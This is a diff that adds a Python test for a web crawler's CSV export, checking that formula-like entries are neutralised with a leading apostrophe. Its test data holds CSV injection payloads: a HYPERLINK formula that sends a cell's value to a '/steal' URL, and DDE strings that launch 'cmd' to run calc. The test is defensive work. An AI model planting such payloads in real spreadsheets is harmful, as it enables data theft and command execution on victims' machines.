@@ -149,6 +149,54 @@ def test_export_writes_one_file_per_table_with_its_columns(archive, tmp_path, fm
     db.close()
 
 
+def test_csv_export_neutralises_formulas_and_the_other_formats_keep_exact_values(tmp_path):
+    """A stored entry that begins `=HYPERLINK(...)` (and one that reads as a negative number, and the
+    other starts OWASP names) leaves the CSV as text a spreadsheet shows, never runs: a leading `'`.
+    Numbers stay numbers; JSON, NDJSON and the SQLite copy keep the stored text exactly."""
+    from crawler.items import Digest, Entry
+
+    hostile = [
+        '=HYPERLINK("http://127.0.0.1:9/steal?c="&A1,"Read more")',
+        "-12",
+        "+1+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        'plain text, with a comma and a "quote" = not a formula',
+    ]
+    database = tmp_path / "archive.db"
+    db = storage.open_database(database)
+    storage.save_digest(
+        db,
+        Digest(
+            url="https://www.nejatngo.org/en/posts/9001",
+            site="nejatngo.org",
+            post_id=9001,
+            title="Iran Interlink Weekly Digest \u2013 -3",
+            number=-3,
+            headline=None,
+            issue_date=None,
+            published="2017-08-25",
+            dateline=None,
+            entries=tuple(Entry(None, text, "<p>x</p>") for text in hostile),
+        ),
+    )
+    db.close()
+    for fmt in ("csv", "json"):
+        result = invoke("export", str(database), "--format", fmt, "--output", str(tmp_path / fmt))
+        assert result.exit_code == 0, result.output
+    with open(tmp_path / "csv" / "entries.csv", encoding="utf-8", newline="") as handle:
+        entries = list(csv.DictReader(handle))
+    assert [entry["text"] for entry in entries] == ["'" + text for text in hostile[:-1]] + [hostile[-1]]
+    with open(tmp_path / "csv" / "digests.csv", encoding="utf-8", newline="") as handle:
+        [digest] = list(csv.DictReader(handle))
+    assert digest["number"] == "-3" and digest["post_id"] == "9001"  # numbers, not text: left alone
+    assert digest["title"] == "Iran Interlink Weekly Digest \u2013 -3"
+    exact = json.loads((tmp_path / "json" / "entries.json").read_text(encoding="utf-8"))
+    assert [entry["text"] for entry in exact] == hostile
+    assert [row["text"] for row in rows(database, "SELECT text FROM entries ORDER BY position")] == hostile
+
+
 def test_export_sqlite_is_a_consistent_copy_even_during_a_crawl(tmp_path, slow_site_server):
     database, copy = tmp_path / "live.db", tmp_path / "copy.db"
     command = crawl_command(
